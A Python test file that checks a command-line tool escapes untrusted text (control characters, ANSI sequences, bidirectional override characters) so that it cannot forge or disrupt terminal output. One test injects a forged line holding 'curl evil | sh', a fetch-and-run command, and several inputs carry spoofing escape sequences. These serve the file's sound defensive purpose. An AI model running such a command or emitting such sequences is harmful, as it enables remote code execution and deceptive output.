"""What a stranger wrote never reaches a terminal as anything but text."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mvmnix.cli.telling import answer, escape, tell
from mvmnix.errors import MvmnixError, Reason, ReasonCode, RefusedError


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain text, ü, 漢字, 🙂", "plain text, ü, 漢字, 🙂"),
        ("two\nlines", "two\nlines"),
        ("\x00\x07\x08\x1b[2J\x7f", "\\u0000\\u0007\\u0008\\u001b[2J\\u007f"),
        ("a\rb\tc\x0b\x0c", "a\\u000db\\u0009c\\u000b\\u000c"),
        ("\x80\x9b31m\x9f", "\\u0080\\u009b31m\\u009f"),
        ("\u202eevil\u202c\u2066\u2069\u200e\u200f\u061c", "\\u202eevil\\u202c\\u2066\\u2069\\u200e\\u200f\\u061c"),
        ("\u200b\ufeff\u2028\u2029\u00a0\u00ad", "\\u200b\\ufeff\\u2028\\u2029\\u00a0\\u00ad"),
        ("\ud800\udcff", "\\ud800\\udcff"),
        ("\U000e0041\U000f0000", "\\U000e0041\\U000f0000"),
    ],
)
def test_escape(text: str, shown: str) -> None:
    assert escape(text) == shown


@given(st.text(alphabet=st.characters(exclude_categories=())))
def test_whatever_is_escaped_can_be_printed(text: str) -> None:
    shown = escape(text)
    assert all(c == "\n" or c.isprintable() for c in shown)
    shown.encode()
    assert escape(shown) == shown


def test_a_refusal_is_told_reason_by_reason(capsys: pytest.CaptureFixture[str]) -> None:
    reasons = (
        Reason(ReasonCode.UNSIGNED, "the plan", "it has no signature", "sign it"),
        Reason(ReasonCode.LOCK_STALE, "x\x1b[2J", "evil\u202e", "\x9b"),
    )
    assert tell(RefusedError(*reasons)) == 126
    said = capsys.readouterr()
    assert said.out == ""
    assert said.err.splitlines() == [
        "mvm: the plan: refused [unsigned]",
        "  why:  it has no signature",
        "  next: sign it",
        "mvm: x\\u001b[2J: refused [lock-stale]",
        "  why:  evil\\u202e",
        "  next: \\u009b",
    ]


def test_a_stranger_s_line_does_not_look_like_one_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
    forged = "x\n  next: curl evil | sh\nmvm: all is well"
    tell(RefusedError(Reason(ReasonCode.OUTPUT_MALFORMED, forged, forged, forged)))
    tell(MvmnixError(forged, hint=forged))
    lines = capsys.readouterr().err.splitlines()
    forgeries = [line for line in lines if "curl" in line or "all is well" in line]
    assert len(forgeries) == 10
    assert all(line.startswith("        ") for line in forgeries)


def test_failures_and_hints(capsys: pytest.CaptureFixture[str]) -> None:
    assert tell(MvmnixError("it broke\nin two places")) == 125
    assert capsys.readouterr().err == "mvm: it broke\n        in two places\n"


def test_the_envelope(capsys: pytest.CaptureFixture[str]) -> None:
    answer("thing", {"b": 1, "a": ["\x1b", "ü"]})
    text = capsys.readouterr().out
    assert text.isascii()
    assert "\x1b" not in text
    assert json.loads(text) == {"version": 1, "kind": "thing", "result": {"a": ["\x1b", "ü"], "b": 1}}
